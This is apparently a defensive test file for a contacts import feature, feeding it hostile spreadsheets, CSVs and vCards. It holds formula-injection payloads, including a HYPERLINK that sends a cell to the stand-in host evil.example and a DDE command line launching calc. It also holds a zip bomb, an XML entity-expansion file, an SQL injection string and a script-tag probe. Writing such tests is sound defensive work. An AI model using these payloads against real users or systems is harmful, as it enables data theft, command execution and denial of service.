@@ -1,0 +1,137 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { TestApp } from '../../test/app.ts';
+import { startTestApp } from '../../test/app.ts';
+import { directoryFiles } from '../../test/directory-files.ts';
+import type { TestUser } from '../../test/factories.ts';
+import { packed } from '../../test/office-files.ts';
+
+let test: TestApp;
+let broker: TestUser;
+beforeAll(async () => {
+  test = await startTestApp();
+  broker = await test.make.user(30);
+});
+afterAll(() => test.close());
+const { upload, read, check, run, rowsOf } = directoryFiles(() => ({ test, broker }));
+
+const answerOf = async (content: string | Uint8Array, name: string) => {
+  const file = new File([new Uint8Array(Buffer.from(content))], name);
+  const { status, body } = await test.as(broker).upload('/uploadDirectoryImport?Kind=contacts', file);
+  return [status, body.code];
+};
+const million = 1_000_000;
+
+describe('a hostile workbook', () => {
+  const workbook = (rows: string, more: Record<string, string> = {}): Uint8Array =>
+    packed('excel', {
+      'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
+      ...more,
+    });
+  const text = (value: string): string => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
+  const headings = `<row>${['First Name', 'Last Name', 'Email', 'Description'].map(text).join('')}</row>`;
+  const ada = (email: string, rest = ''): string => `<row>${text('Ada')}${text('Sheet')}${text(email)}${rest}</row>`;
+  const sheetFile = (bytes: Uint8Array) => new File([new Uint8Array(bytes)], 'people.xlsx');
+
+  it('gives the results of its formulas and never the formulas, which CSV files neutralize', async () => {
+    const formula = '<c t="str"><f>HYPERLINK("http://evil.example/?"&amp;A2,"x")</f><v>a result</v></c>';
+    const unsolved = '<c><f>WEBSERVICE("http://evil.example")</f></c>';
+    const rows = [
+      ada('one@formula.example', formula),
+      ada('two@formula.example', unsolved),
+      ada('three@formula.example', text('=cmd|&apos;/c calc&apos;!A1')),
+    ];
+    const ImportID = await upload(sheetFile(workbook(headings + rows.join(''))));
+    expect(await check(ImportID)).toMatchObject({ Rows: 3, Create: 3 });
+    await run(ImportID);
+    const { text: csv } = await test.as(broker).get('/getContacts?format=csv&search=formula.example');
+    expect(csv).not.toMatch(/HYPERLINK|WEBSERVICE/);
+    const found = await Promise.all(
+      (await rowsOf(ImportID)).map(async ({ TargetID }) => {
+        const { body } = await test.as(broker).get(`/getContactInfo?contact_id=${TargetID}`);
+        return (body.contact_details as { Description: string }).Description;
+      }),
+    );
+    expect(found).toEqual(['a result', '', "=cmd|'/c calc'!A1"]);
+  });
+
+  it('names cells and verdicts so that a downloaded check runs nothing', async () => {
+    const ImportID = await upload(sheetFile(workbook(`${headings}<row>${text('=1+1')}${text('@SUM(A1)')}</row>`)));
+    await check(ImportID);
+    const { text: csv } = await test.as(broker).get(`/directoryImportRows?import_id=${ImportID}&format=csv`);
+    expect(csv).toContain("'=1+1 @SUM(A1)");
+  });
+
+  it('may have a million empty rows', { timeout: 120_000 }, async () => {
+    const empty = Array.from({ length: million }, (_, at) => `<row r="${at + 2}"/>`).join('');
+    const ImportID = await upload(sheetFile(workbook(`${headings}${empty}${ada('last@empty.example')}`)));
+    expect(await read(ImportID)).toMatchObject({ Rows: 1 });
+  });
+
+  it('is refused if it unpacks to too much, nests without end, or declares entities', { timeout: 120_000 }, async () => {
+    const zeros = `${headings}${' '.repeat(129 * 1024 * 1024)}`;
+    expect(await answerOf(workbook(zeros), 'bomb.xlsx')).toEqual([413, 'file_too_complex']);
+    expect(await answerOf(workbook('<a>'.repeat(10_000)), 'deep.xlsx')).toEqual([413, 'file_too_complex']);
+    const doctype = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>';
+    const laughs = packed('excel', { 'xl/worksheets/sheet1.xml': `${doctype}<worksheet>&b;</worksheet>` });
+    expect(await answerOf(laughs, 'laughs.xlsx')).toEqual([422, 'import_file_unreadable']);
+  });
+
+  it('is refused if it is cut off', async () => {
+    const whole = workbook(headings + ada('cut@half.example'));
+    expect(await answerOf(whole.subarray(0, whole.length - 40), 'cut.xlsx')).toEqual([422, 'import_file_unreadable']);
+  });
+});
+
+describe('a hostile CSV file', () => {
+  it('may have a million empty rows', { timeout: 120_000 }, async () => {
+    const lines = `Name,Email\n${'\n'.repeat(million / 2)}${',\n'.repeat(million / 2)}Ada Last,last@lines.example\n`;
+    const ImportID = await upload(new File([lines], 'people.csv'));
+    expect(await read(ImportID)).toMatchObject({ Rows: 1 });
+    expect((await rowsOf(ImportID))[0]).toMatchObject({ Row: million + 2 });
+  });
+
+  it('is refused with NUL characters or a row without end', async () => {
+    expect(await answerOf('Name,Email\nAda\u0000,x@y.example\n', 'nul.csv')).toEqual([422, 'import_file_empty']);
+    expect(await answerOf(`Name,Email\n"${'Ada '.repeat(million)}`, 'open.csv')).toEqual([422, 'import_file_unreadable']);
+  });
+
+  it('gives no more columns than a table can have, and refuses fields for others', async () => {
+    const columns = Array.from({ length: 5000 }, (_, at) => `Column ${at}`).join(',');
+    const ImportID = await upload(new File([`Name,${columns}\nAda Wide,${'x,'.repeat(5000)}\n`], 'wide.csv'));
+    expect((await read(ImportID)).Columns).toHaveLength(100);
+  });
+
+  it('stores texts of attacks as they are', async () => {
+    const attack = "'); drop table contacts; --";
+    const lines = `First Name,Last Name,Email,Job Title\nAda,Attack,sql@attack.example,${attack}\nAda,Script,script@attack.example,<script>alert(1)</script>`;
+    const ImportID = await upload(new File([lines], 'attack.csv'));
+    expect(await check(ImportID)).toMatchObject({ Create: 2 });
+    expect(await run(ImportID)).toMatchObject({ Created: 2 });
+    const { text: csv } = await test.as(broker).get('/getContacts?format=csv&search=attack.example&sid=ContactId&sod=ASC');
+    expect(csv).toContain("'); drop table contacts;");
+  });
+});
+
+describe('a hostile vCard file', () => {
+  const card = (...lines: string[]): string => ['BEGIN:VCARD', 'VERSION:4.0', ...lines, 'END:VCARD', ''].join('\r\n');
+
+  it('may have a million empty lines, photos and properties without end', { timeout: 120_000 }, async () => {
+    const photo = `PHOTO;ENCODING=b:${'QUJD'.repeat(million)}`;
+    const notes = Array.from({ length: 10_000 }, (_, at) => `X-NOTE-${at}:${at}`);
+    const content =
+      card('FN:First Card') + '\r\n'.repeat(million) + card('FN:Ada Card', 'EMAIL:ada@lines.example', photo, ...notes);
+    const ImportID = await upload(new File([content], 'people.vcf'));
+    expect(await check(ImportID)).toMatchObject({ Rows: 2, Create: 2 });
+  });
+
+  it('is refused with too many cards', async () => {
+    expect(await answerOf('BEGIN:VCARD\nFN:A B\nEND:VCARD\n'.repeat(100_001), 'many.vcf')).toEqual([413, 'import_file_too_long']);
+  });
+
+  it('may be cut off, repeat its beginning and have no name', async () => {
+    const content = `BEGIN:VCARD\r\nBEGIN:VCARD\r\n${card('EMAIL:nameless@card.example')}BEGIN:VCARD\r\nFN:Cut Off\r\nEMAIL:cut@card.exam`;
+    const ImportID = await upload(new File([content], 'people.vcf'));
+    expect(await check(ImportID)).toMatchObject({ Rows: 4, Create: 1, Errors: 3 });
+    expect((await rowsOf(ImportID)).at(-1)).toMatchObject({ Name: 'Cut Off', Verdict: 'create' });
+  });
+});
